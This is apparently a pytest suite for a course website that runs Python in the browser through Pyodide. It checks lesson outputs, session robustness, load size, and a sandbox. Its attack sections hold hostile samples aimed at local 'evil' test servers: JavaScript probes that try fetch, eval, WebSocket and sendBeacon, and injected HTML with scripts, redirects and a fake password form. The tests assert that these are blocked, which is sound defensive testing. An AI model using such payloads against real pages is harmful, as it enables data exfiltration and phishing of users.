"""Python in a real browser: session.mjs, worker.mjs and course/site/worker.py together.

Oracles: the same cells in CPython and the committed outputs of the notebooks; two servers that
write down every request, one of them on an address that no page of the site may reach.

Cells of lessons that take more than a few seconds there, with those that need them, and of all
chapters but one the exercises after the first are left out, chosen by measured time:
COURSE_ALL_CELLS=1 runs them too (some ten minutes in Chromium).
"""

from __future__ import annotations

import ast
import contextlib
import functools
import gzip
import http.server
import json
import shutil
import subprocess
import threading

import browsing
import live_attacks
import live_cells
import pytest

from course import notebooks, paths
from course.authoring import book
from course.authoring.cells import browser_cells
from course.checking.exercise import load
from course.site import finish, live, outputs, runtime

CHAPTERS = ["01", "02", "03", "04", "05"]


class Log(http.server.SimpleHTTPRequestHandler):
    """Serves files, and writes down what it was asked for."""

    extensions_map = {  # noqa: RUF012 - as in the base class
        **http.server.SimpleHTTPRequestHandler.extensions_map,
        ".mjs": "text/javascript",
    }

    def end_headers(self):
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()

    def log_request(self, *args):
        self.server.asked.append(self.requestline)

    def log_error(self, *args):
        pass  # a file that is not there was written down, too


@contextlib.contextmanager
def logged(folder):
    """A server for the files of `folder`: (its address, the requests that it got, a list)."""
    handler = functools.partial(Log, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        server.asked = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}/", server.asked
        finally:
            server.shutdown()


def policy() -> str:
    """What a page on which Python runs may load, as the site says it."""
    rules = {name: [value] for name, value in finish.POLICY.items()}
    for name, value in finish.LIVE.items():
        rules[name].append(value)
    return "; ".join(f"{name} {' '.join(values)}" for name, values in rules.items())


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """Two blank pages with the engine beside them: with the site's policy, and open without."""
    browsing.browser()
    folder = tmp_path_factory.mktemp("engine")
    shutil.copytree(paths.BOOK / "_static" / "live", folder / "live")
    runtime.add(book.node_packages(needed=runtime.PACKAGES), folder / "live")
    head = '<!doctype html><html lang="en"><meta charset="utf-8"><link rel="icon" href="data:,">'
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy()}">'
    (folder / "guarded.html").write_text(f"{head}{meta}<title>Guarded</title>")
    (folder / "open.html").write_text(f"{head}<title>Open</title>")
    return folder


@pytest.fixture(scope="module")
def play(site):
    """play(scene, page, given): what live_engine.mjs found, and the requests that the site got.

    One browser plays all scenes, on one site: so what it keeps of Python is used as a reader's is.
    """
    command = ["node", str(browsing.SCRIPTS / "live_engine.mjs")]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True, "encoding": "utf-8"}
    with (
        logged(site) as (base, asked),
        subprocess.Popen(command, env=browsing.browser(), **pipes) as node,
    ):

        def scene(name, page="guarded.html", given=None, timeout=300):
            asked.clear()
            print(json.dumps({"scene": name, "url": base + page, "given": given}), file=node.stdin)
            node.stdin.flush()
            late = threading.Timer(timeout, node.kill)
            late.start()
            answer = next((line for line in node.stdout if line.strip()), None)
            late.cancel()
            assert answer, f"the scene {name} took longer than {timeout} seconds, or Node.js ended"
            ended = json.loads(answer)
            assert "found" in ended, ended["failed"]
            return ended["found"], list(asked)

        yield scene
        node.stdin.close()


def told(ended) -> list:
    return live_cells.told(ended["outs"])


# --- the course's own cells -------------------------------------------------------------------

# In these cells of lessons Python 3.14 has other words, or the last digit of a logarithm grows to
# another number, because training with too high a rate is chaos.
OTHERWISE = {
    "chapters/01_bigram.ipynb": {"zero", "learn-10"},
    "chapters/02_autograd.ipynb": {"order-4"},
}


@pytest.mark.parametrize("number", CHAPTERS)
def test_lessons_say_in_the_page_what_is_committed(play, number):
    lesson = paths.chapter(number).lesson
    name = lesson.relative_to(paths.ROOT).as_posix()
    runs = {one["id"] for one in live.page(paths.ROOT, lesson, "lesson")["cells"] if one["runs"]}
    left = live_cells.left(name)
    assert left < runs
    chosen = [one for one in live_cells.cells(lesson) if one[0] in runs - left]
    expected = live_cells.committed(lesson)
    found, _ = play("cells", given={name: chosen}, timeout=900)
    assert found["errors"] == []
    for (id, source), ended in zip(chosen, found["results"][name], strict=True):
        assert ended["ok"], (id, source, ended)
        if id not in OTHERWISE.get(name, ()):
            assert live_cells.alike(told(ended), expected[id]), (id, told(ended), expected[id])


MISTAKE = """
from course.checking.exercise import find
one = find({id!r})
wrong = one.misconceptions[0].wrong
check(one.id, wrong() if one.kind == "value" and callable(wrong) else wrong)
"""


def some(number: str) -> list:
    """Exercises of a chapter: all that a program grades (experiments are long, too); of every
    chapter but the first only its first one, which needs no other, unless all are asked for."""
    known = [one for one in load(number).EXERCISES if one.kind != "open"]
    return known if number == "01" or live_cells.ALL else known[:1]


def graded(number: str) -> list[list[str]]:
    """The cells of these exercises: unanswered, with a known mistake, and solved."""
    known = [one.id for one in some(number)]

    def cells(path):
        nb = notebooks.read(path)
        for k in browser_cells(nb):
            id = notebooks.grade_id(nb["cells"][k])
            if id is None or id.removesuffix("-check") in known:
                yield [f"{path.parent.name} {k}", notebooks.source(nb["cells"][k])]

    mistakes = [[f"mistake {id}", MISTAKE.format(id=id)] for id in known]
    chapter = paths.chapter(number)
    return [*cells(chapter.exercise), *mistakes, *cells(chapter.solution)]


@pytest.mark.parametrize("number", ["01", "02", "04", "05"])
def test_checks_say_in_the_page_what_they_say_in_a_notebook(play, number, monkeypatch):
    monkeypatch.setenv("COURSE_NO_PROGRESS", "1")
    cells = graded(number)
    expected = live_cells.run(cells)
    found, _ = play("cells", given={"exercises": cells}, timeout=900)
    sentences = 0
    for (id, _), there, here in zip(cells, found["results"]["exercises"], expected, strict=True):
        assert there["ok"] == here["ok"], (id, told(there))
        assert live_cells.alike(told(there), told(here)), (id, told(there), told(here))
        sentences += any("not started" in text for _, text in told(there))
    mistakes = [one.misconceptions[0].sentence for one in some(number)]
    said = [told(ended) for ended in found["results"]["exercises"]]
    for sentence in mistakes:
        assert any(
            " ".join(sentence.split()) in " ".join(text.split()) for one in said for _, text in one
        )
    assert sentences >= len(mistakes) == len(some(number)) > 0


# --- a session --------------------------------------------------------------------------------

CHAINS = """
from microgpt_ref.autograd import Value
tops = []
for _ in range(4):
    first = x = Value(1.0)
    top = id(x)
    for _ in range(100_000):
        x = x + x
        top = max(top, id(x))
    tops.append(top)
tops
"""


@pytest.fixture(scope="module")
def life(play):
    return play("life", given={"chains": CHAINS})


def test_the_first_run_loads_python_and_says_how_far_it_is(life, site):
    found, asked = life
    assert told(found["first"]) == [["stdout", "hi\n"], ["result", "21"]]
    assert found["states"][:4] == ["loading", "ready", "busy", "ready"]
    total = sum(
        one["size"] for one in json.loads((site / "live/files.json").read_text())["files"].values()
    )
    loaded = [bar["loaded"] for bar in found["bars"]]
    assert loaded == sorted(loaded) and loaded[-1] == total == found["bars"][0]["total"]
    assert len(loaded) > 10
    assert sum("pyodide.asm.wasm" in line for line in asked) <= 3  # once for each page


def test_it_is_quick(life):
    """The aim: a first output in 6 seconds, an edited cell in 0.2, on a quiet machine. Tested are
    ratios to the first, which a busy one does not change."""
    found, _ = life
    print(
        {k: round(found[k]["after"]) for k in ("first", "edited", "second")}, found["stopped"]["ms"]
    )
    assert found["edited"]["after"] < found["first"]["after"] / 4
    assert found["second"]["after"] < found["first"]["after"]
    assert found["stopped"]["ms"] < found["first"]["after"]


def test_cells_wait_for_each_other(life):
    assert [told(one) for one in life[0]["both"]] == [[], [["result", "2"]]]


def test_stop_ends_a_loop_and_what_waits_and_python_starts_anew_without_a_network(life):
    found, _ = life
    assert [one["rejected"] for one in found["stopped"]["results"]] == ["Stopped", "Stopped"]
    assert told(found["fresh"]) == [["result", "False"]]
    assert told(found["random"][0]) != told(found["random"][1])  # memory that was kept, chance not


def test_a_cell_that_prints_for_ever_does_not_freeze_the_page(life):
    flood = life[0]["flood"]
    assert flood["ended"]["rejected"] == "Stopped"
    assert flood["size"] == outputs.MOST_PRINTED + len(outputs.PRINTED)
    assert flood["last"].endswith(outputs.PRINTED.strip()[-60:] + "\n")
    assert flood["pieces"] < 200
    assert flood["turns"] >= 15, "of 150, by a timer of the page; a frozen page has one or two"


def test_too_much_memory_is_an_error_of_the_cell(life):
    found, _ = life
    assert found["memory"]["outs"][0]["name"] == "MemoryError"
    assert told(found["after_memory"]) == [["result", "'alive'"]]


def test_a_function_that_calls_itself_for_ever_is_an_error_of_the_cell(life):
    (error,) = life[0]["deep"]["outs"]
    assert error["name"] == "RecursionError" and "This cell, line 3" in error["text"]


def test_long_chains_of_objects_are_freed(life):
    """A hundred thousand, each of which frees the next: far deeper than the worker's stack."""
    assert life[0]["chains"]["ok"]
    first, *later = ast.literal_eval(life[0]["chains"]["outs"][0]["text"])
    assert max(later) - first < 10_000_000  # of the 20 MB that one takes: its place is used again


def test_a_dead_python_says_so_and_a_new_one_starts(life):
    found, _ = life
    (error,) = found["dead"]["outs"]
    assert found["dead"]["ok"] is False and error["kind"] == "error"
    assert "Python has stopped" in error["message"] and "a new Python starts" in error["message"]
    assert found["dead_state"] == "off"
    assert told(found["alive"]) == [["result", "False"]]
    assert all("Pyodide" in one or "fatal" in one or "memory" in one for one in found["errors"])


def test_what_the_browser_kept_may_be_damaged(life):
    found, _ = life
    assert told(found["second"]) == told(found["damaged"]) == [["stdout", "hi\n"]]
    assert found["kept"]  # anew, and not the zeros


def test_progress_and_widgets_go_to_python_and_back(play):
    kept = {"ch01-pairs": {"passed": None, "attempts": 4, "hints": 2, "code": ""}}
    check = "from course import check\ncheck('ch01-pairs', 1)"
    widget = """from course import widget
def draw(state, message):
    return message["answer"]
widget("bigram_table", {"tokens": "ab.", "probs": [[0, .75, .25], [0, 0, 1], [.5, .5, 0]]}, draw)"""
    found, _ = play("course", given={"progress": kept, "check": check, "widget": widget})
    assert found["checked"]["progress"] == {"ch01-pairs": {**kept["ch01-pairs"], "attempts": 5}}
    assert "<code>pairs</code>" in found["checked"]["outs"][0]["html"]
    assert found["widget"]["cell"] == "picture" and found["widget"]["outs"][0]["state"]["live"]
    assert (found["asked"]["name"], found["asked"]["row"]) == ("a", 0)
    assert found["wrong"] == {"error": "KeyError: 'answer'"}
    assert found["again"]["progress"]["ch01-pairs"]["attempts"] == 6  # to a new Python, too


def test_a_file_that_does_not_arrive_is_told_and_may_be_tried_again(play):
    found, _ = play("missing")
    assert found["first"]["rejected"] == "Error"
    assert "pyodide.asm.wasm did not arrive. Try again." in found["first"]["why"]
    assert told(found["again"]) == [["result", "1"]]
    assert found["states"][:3] == ["loading", "off", "loading"]


# --- attacks ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def attacked(play, tmp_path_factory):
    """The attacks on a page without a policy, so that the worker alone has to withstand them."""
    with logged(tmp_path_factory.mktemp("evil")) as (evil, arrived):
        given = [
            # What an attack has opened, the next is not to find.
            [name, live_attacks.aimed(source, evil), "del sys.modules" in source]
            for name, source in live_attacks.ATTACKS.items()
        ]
        given.append(["the end", "print('still here')", False])
        found, asked = play("attacks", "open.html", given)
    return found, asked, arrived


@pytest.mark.parametrize("name", live_attacks.ATTACKS)
def test_an_attack_ends_in_an_error(attacked, name):
    ended = attacked[0][name]
    (error,) = [one for one in ended["outs"] if one["kind"] == "error"]
    assert ended["ok"] is False
    assert live_attacks.STOPPED_BY[name] in error["text"].split("---->")[-1], error["text"]


def test_no_attack_sends_a_request(attacked):
    results, asked, arrived = attacked
    assert told(results["the end"]) == [["stdout", "still here\n"]]
    assert arrived == []
    names = {line.split()[1].split("?")[0].rpartition("/")[2] for line in asked}
    files = {name.rpartition("/")[2] for name in runtime.LOADED}
    modules = {"session.mjs", "heard.mjs", "clean.mjs", "kept.mjs"}
    assert {"open.html", "files.json"} < names <= {"open.html", "files.json", *modules, *files}


def test_a_request_would_be_seen(play, tmp_path):
    """The same attacks on Pyodide as it comes, on the same page, arrive."""
    worker = """
const { loadPyodide } = await import("{base}live/pyodide/pyodide.mjs");
const { lock } = await (await fetch("{base}live/files.json")).json();
const lockFileContents = { info: lock, packages: {} };
const indexURL = "{base}live/pyodide/";
const python = await loadPyodide({ indexURL, lockFileContents, packageBaseUrl: indexURL });
for (const source of {sources}) await python.runPythonAsync(source);
await new Promise((resolve) => setTimeout(resolve, 1000));
postMessage("done");
"""
    for name in ("x", "library"):
        (tmp_path / name).write_text("here")
    names = ["C: run a script", "C: a library with JavaScript of its own"]
    with logged(tmp_path) as (evil, arrived):
        sources = [live_attacks.aimed(live_attacks.ATTACKS[name], evil) for name in names]
        worker = worker.replace("{sources}", json.dumps(sources))
        found, _ = play("unguarded", "open.html", {"worker": worker})
    assert found == "done"
    assert set(arrived) == {"GET /library HTTP/1.1", "GET /x HTTP/1.1"}


# --- forgery ----------------------------------------------------------------------------------

LINES = [
    '{"kind": "stream", "name": "stdout", "text": "mine"}',  # well formed: as if printed
    '{"cell": "other", "output": {"kind": "stream", "name": "stdout", "text": "x"}}',
    '{"kind": "result", "text": 5, "html": {}}',
    '{"kind": "__proto__"}',
    '{"kind": "widget", "id": "other/0", "name": "../../x", "text": "", "state": {}}',
    '{"kind": "widget", "id": "other/0", "name": "x", "text": "", "state": null}',
    "null",
    "[",
]
FORGED = {
    "outputs": f"""
import os
for line in {LINES}:
    for file in range(3, 30):
        try:
            os.write(file, line.encode() + b"\\n")
        except OSError:
            pass""",
    "progress": """
from course.checking import store
odd = {"passed": "<b>", "attempts": "many", "hints": -1, "code": 5, "more": 1}
store.read = lambda: {"one": odd, "two": 2, "three": {"passed": "2026-01-02", "attempts": 3}}""",
    "a reply": "import json\njson.dumps = lambda *_, **__: '[]'",
    "no reply": "import json\njson.dumps = lambda *_, **__: 'nothing'",
}


def test_what_a_cell_forges_stays_its_own(play):
    given = {name: [[name, source], ["after", "1"]] for name, source in FORGED.items()}
    found, _ = play("cells", given=given)
    ended = {name: first for name, (first, _) in found["results"].items()}
    after = {name: second for name, (_, second) in found["results"].items()}
    assert found["errors"] == []
    assert told(ended["outputs"]) == [["stdout", "mine"]] and ended["outputs"]["cell"] == "outputs"
    nothing = {"passed": None, "attempts": 0, "hints": 0, "code": ""}
    passed = {**nothing, "passed": "2026-01-02", "attempts": 3}
    assert ended["progress"]["progress"] == {"one": nothing, "three": passed}
    assert (after["a reply"]["ok"], after["a reply"]["progress"]) == (False, {})
    assert "Python has stopped" in after["no reply"]["outs"][-1]["text"]


# --- the worker's scope -----------------------------------------------------------------------

PROBE = """
const tries = {
  eval: () => (0, eval)("1"),
  Function: () => new Function("return 1")(),
  constructor: () => (() => {}).constructor("return 1")(),
  async: () => (async () => {}).constructor("return 1")(),
  generator: () => (function* () {}).constructor("return 1")(),
  async_generator: () => (async function* () {}).constructor("return 1")(),
  prototype: () => Object.getPrototypeOf(async () => {}).constructor("return 1")(),
  fetch: () => fetch("%(evil)s"),
  XMLHttpRequest: () => new XMLHttpRequest(),
  WebSocket: () => new WebSocket("ws://127.0.0.1"),
  EventSource: () => new EventSource("%(evil)s"),
  importScripts: () => importScripts("%(evil)s"),
  Worker: () => new Worker("%(evil)s"),
  SharedWorker: () => new SharedWorker("%(evil)s"),
  indexedDB: () => indexedDB.open("x"),
  caches: () => caches.open("x"),
  BroadcastChannel: () => new BroadcastChannel("x"),
  SharedArrayBuffer: () => new SharedArrayBuffer(8),
  localStorage: () => localStorage.getItem("x"),
  document: () => document.cookie,
  navigator: () => navigator.userAgent,
  sendBeacon: () => navigator.sendBeacon("%(evil)s"),
  FontFace: () => new FontFace("x", "url(%(evil)s)").load(),
  WebTransport: () => new WebTransport("https://127.0.0.1"),
  Request: () => new Request("%(evil)s"),
  setTimeout: () => setTimeout("1", 0),
  self: () => self.fetch("%(evil)s"),
  inherited: () => Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch("%(evil)s"),
};
const found = {};
function probe() {
  for (const [name, attempt] of Object.entries(tries))
    try {
      found[name] = `it works: ${attempt()}`;
    } catch (error) {
      found[name] = error.constructor.name;
    }
  const names = [];
  for (let at = globalThis; at && at !== Object.prototype; at = Object.getPrototypeOf(at))
    names.push(...Object.getOwnPropertyNames(at));
  const text = JSON.stringify({ found, names });
  send({ type: "output", id: current, output: { kind: "stream", name: "stdout", text } });
}
const served = answer;
answer = (data) => {
  current = data.id;
  probe();
  served(data);
};
"""


def test_nothing_is_left_in_the_workers_scope_that_could_send_anything(play, tmp_path):
    with logged(tmp_path) as (evil, arrived):
        found, _ = play("scope", "open.html", {"probe": PROBE % {"evil": f"{evil}x"}})
    for name, what in found["found"].items():
        assert what in ("ReferenceError", "TypeError", "EvalError"), (name, what)
    assert arrived == []
    assert len(found["names"]) < 90
    reach = "fetch socket worker request import storage database beacon cache channel transport "
    reach = (reach + "event font evaluate navigat locat post").split()
    assert [name for name in found["names"] if any(word in name.lower() for word in reach)] == []


# --- what Python shows, and the editor --------------------------------------------------------

EVIL_HTML = """
<p style="color: red" onclick="x()" id="body">kept <b>too</b>, <a href="{evil}">no link</a></p>
<meta http-equiv="refresh" content="0;url={evil}"><base href="{evil}">
<link rel="stylesheet" href="{evil}"><link rel="dns-prefetch" href="{evil}">
<script src="{evil}"></script><script>location = "{evil}"</script>
<img src="{evil}" onerror="x()"><img src="data:image/png;base64,AAAA" alt="an image">
<form action="{evil}"><input name="password"><button>Sign in</button></form>
<iframe src="{evil}"></iframe><object data="{evil}"></object><embed src="{evil}">
<style>@import "{evil}";</style><div style="background: url({evil})">plain</div>
<div style="position: fixed; inset: 0">over all</div><template><p>hidden</p></template>
<svg viewBox="0 0 1 1"><rect width="1" height="1" fill="blue"/><a href="{evil}"><text>t</text></a>
<script>x()</script><foreignObject><p>in</p></foreignObject>
<image href="{evil}"/><style>x</style></svg>
<math><mi href="{evil}">m</mi></math><video src="{evil}" autoplay></video>
<details open><summary>unfold</summary><pre><code>x &lt; y</code></pre></details>
"""


def test_html_of_python_shows_and_does_nothing_else(play, tmp_path):
    """Shown on a page without a policy; innerHTML is what the page's outputs use."""
    with logged(tmp_path) as (evil, arrived):
        html = EVIL_HTML.format(evil=f"{evil}x")
        source = f"class H:\n    def _repr_html_(self):\n        return {html!r}\nH()"
        found, _ = play("html", "open.html", {"source": source})
    assert arrived == [] and found["errors"] == [] and found["url"].endswith("open.html")
    assert found["again"]
    assert " ".join(dict.fromkeys(found["tags"])) == (
        "p b a img div svg rect text details summary pre code"
    )
    assert set(found["attributes"]) == {
        "style=color: red",
        "src=data:image/png;base64,AAAA",
        "alt=an image",
        "viewBox=0 0 1 1",
        "width=1",
        "height=1",
        "fill=blue",
        "open=",
    }
    for words in ("kept too, no link", "plain", "over all", "unfold", "x < y"):
        assert words in found["text"]
    assert "Sign in" not in found["text"]


def test_the_editor_has_the_colours_of_the_page_and_the_keyboard_can_leave_it(play):
    text = "import math\n\n\ndef f(x):  # one\n    return 'a' + str(x)"
    found, asked = play("editor", given={"text": text})
    assert found["errors"] == []
    assert found["label"] == "Cell 3" and found["role"] == "textbox"
    colours = {word: kind for kind, word in found["colours"]}
    expected = {"import": "k", "def": "k", "f": "nf", "# one": "c1", "return": "k", "'a'": "s2"}
    assert {word: colours.get(word) for word in expected} == expected
    assert found["lines"] >= 5
    assert found["text"] == f"{text}\n        x"
    assert found["told"].count("run") == 2
    assert found["told"][-1] == ["changed", "new"]
    assert found["left"] == "after" and found["after"] == 0
    assert not any("pyodide" in line for line in asked)


# --- the policy; last, for these workers cost the browser what it kept of Python ----------------

HOSTILE = """
const why = async (attempt) => attempt().then(() => "arrived", (error) => error.name);
addEventListener("message", async () => {
  const found = [
    await why(() => fetch("%(evil)sfetch", { mode: "no-cors" })),
    await why(() => import("%(evil)simport.mjs")),
    await why(async () => (0, eval)("1")),
  ];
  postMessage({ type: "failed", why: JSON.stringify(found) });
});
"""


@pytest.mark.parametrize("page", ["guarded.html", "open.html"])
def test_the_worker_inherits_the_policy_of_its_page(play, tmp_path, page):
    """A worker whose text was changed before anything was taken from its scope."""
    (tmp_path / "fetch").write_text("here")
    (tmp_path / "import.mjs").write_text("export default 1")
    with logged(tmp_path) as (evil, arrived):
        found, _ = play("hostile", page, {"worker": HOSTILE % {"evil": evil}})
    told = json.loads(found["why"].partition(": ")[2])
    if page == "open.html":  # nothing but the policy stops it
        assert told == ["arrived"] * 3 and len(arrived) == 2
    else:
        assert told == ["TypeError", "TypeError", "EvalError"] and arrived == []


# --- weight -----------------------------------------------------------------------------------


def test_what_the_first_run_and_the_first_edit_load(site):
    """Compressed as a web server compresses: 6.4 MB of Python and 0.4 of the course, once."""
    weights = {
        name: len(gzip.compress((site / "live" / name).read_bytes()))
        for name in (*runtime.LOADED, "codemirror.mjs")
    }
    print({name: f"{weight / 1000:.0f} kB" for name, weight in weights.items()})
    editor = weights.pop("codemirror.mjs")
    assert 5e6 < sum(weights.values()) < 7.5e6
    assert weights["course.zip"] < 0.5e6 and editor < 0.13e6
    assert {path.name for path in (site / "live" / "pyodide").iterdir()} == set(runtime.PYODIDE)
    assert "MIT License" in (site / "live" / "licenses.txt").read_text(encoding="utf-8")
